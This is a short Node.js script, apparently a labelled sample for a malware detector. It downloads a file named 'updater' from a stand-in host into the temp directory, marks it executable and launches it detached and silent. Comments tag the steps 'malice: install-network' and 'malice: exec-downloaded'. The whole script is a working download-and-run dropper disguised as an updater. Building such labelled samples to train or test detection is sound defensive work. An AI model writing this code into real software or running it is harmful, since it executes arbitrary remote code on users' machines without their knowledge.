const { spawn } = require("child_process");
const fs = require("fs");
const https = require("https");
const os = require("os");
const path = require("path");

const target = path.join(os.tmpdir(), "updater");

https.get("https://files.invalid/updater", (answer) => { // malice: install-network
  const file = fs.createWriteStream(target, { mode: 0o755 });
  answer.pipe(file);
  file.on("finish", () => spawn(target, [], { detached: true, stdio: "ignore" }).unref()); // malice: exec-downloaded
});
